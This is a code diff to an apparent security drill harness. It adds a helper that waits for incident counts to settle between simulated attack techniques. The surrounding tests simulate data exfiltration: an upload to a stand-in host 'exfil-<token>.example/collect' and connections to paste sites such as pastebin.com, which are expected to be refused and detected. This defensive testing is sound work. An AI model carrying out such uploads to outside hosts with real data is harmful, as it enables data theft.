@@ -109,6 +109,20 @@ def network_all_failed(ctx: Ctx, endpoints: list[tuple[str, int]]) -> ControlRes
 Counts = dict[str, int]
 
 
+def settled_counts(ctx: Ctx, *, timeout: float = 3.0) -> Counts | str:
+    """``incident_counts`` once two reads 0.3 s apart agree: events of the previous technique
+    still on their way must not be credited to the next one."""
+    deadline = time.monotonic() + timeout
+    last = incident_counts(ctx)
+    while not isinstance(last, str) and time.monotonic() < deadline:
+        time.sleep(0.3)
+        now = incident_counts(ctx)
+        if now == last:
+            return now
+        last = now
+    return last
+
+
 def incident_counts(ctx: Ctx) -> Counts | str:
     """Incident id -> event count at ``corral serve`` for the agent, or why it cannot be read."""
     if ctx.lab.control is None:
@@ -148,7 +162,7 @@ def control_seen(ctx: Ctx, before: Counts | str, what: str, *,
 
 def falco_alert(ctx: Ctx, kind: str, process: str, parent: str) -> ControlResult:
     """Post the alert Falco would send for ``kind`` and find the incident it opened."""
-    before = incident_counts(ctx)
+    before = settled_counts(ctx)
     if isinstance(before, str):
         return ControlResult("control-plane", "not_available", before)
     pod = f"{DRILL_POD}-{ctx.token}"
@@ -208,7 +222,7 @@ def drill_pod(ctx: Ctx, image: str) -> dict[str, Any]:
 
 def exfil_new_domain(ctx: Ctx) -> list[ControlResult]:
     host = f"exfil-{ctx.token}.example"
-    before = incident_counts(ctx)
+    before = settled_counts(ctx)
     gw = gateway_all_refused(ctx, [{"id": "upload", "kind": "upload",
                                     "url": f"http://{host}/collect", "total": 65536,
                                     "chunk": 65536}])
@@ -218,7 +232,7 @@ def exfil_new_domain(ctx: Ctx) -> list[ControlResult]:
 def exfil_paste_site(ctx: Ctx) -> list[ControlResult]:
     attempts = [{"id": h, "kind": "connect", "host": h, "port": 443}
                 for h in ("pastebin.com", "paste.ee", "gist.githubusercontent.com")]
-    before = incident_counts(ctx)
+    before = settled_counts(ctx)
     return [gateway_all_refused(ctx, attempts),
             control_seen(ctx, before, "the paste-site denials")]
 
